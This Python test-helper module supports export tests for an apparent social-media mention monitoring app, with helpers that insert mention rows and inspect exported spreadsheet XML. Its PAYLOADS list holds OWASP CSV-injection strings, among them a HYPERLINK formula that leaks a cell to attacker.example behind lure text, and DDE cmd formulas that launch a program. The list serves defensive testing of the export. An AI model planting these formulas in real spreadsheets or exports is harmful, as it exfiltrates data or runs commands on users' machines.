"""Helpers for the export tests: mentions inserted straight into the table (no import code)."""

from __future__ import annotations

import json
import re
import zipfile
from itertools import count
from pathlib import Path
from typing import Any

from desktop.storage.mention_index import index_mentions
from desktop.storage.workspace import Workspace

_keys = count(1)

# OWASP CSV-injection payloads (RELIABILITY.md E-01).
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点这里领取赔偿")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def add_mention(workspace: Workspace, **fields: Any) -> int:
    """Insert one mention with sensible defaults; `extra` becomes extra_json."""
    extra = fields.pop("extra", {})
    n = next(_keys)
    row = {
        "key": f"test:{n}",
        "platform": "微博",
        "author": f"用户{n}",
        "posted_at": f"2026-11-18T09:{n % 60:02d}:00+08:00",
        "text": f"测试舆情 {n}",
        "sentiment": "neg",
        "status": "new",
        "extra_json": json.dumps(extra, ensure_ascii=False),
    }
    row.update(fields)
    with workspace.transaction():
        cursor = workspace.db.execute(
            f"INSERT INTO mentions({', '.join(row)}) VALUES ({', '.join('?' * len(row))})",
            list(row.values()),
        )
        mention_id = cursor.lastrowid
    index_mentions(workspace.db, [mention_id])
    return mention_id


def sheet_xml(path: Path, sheet: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{sheet}.xml").decode("utf-8")


_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def unescape_ooxml(value: Any) -> Any:
    """openpyxl leaves OOXML's `_xHHHH_` escapes (how a CR is stored) in inline strings."""
    if isinstance(value, str):
        return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value)
    return value
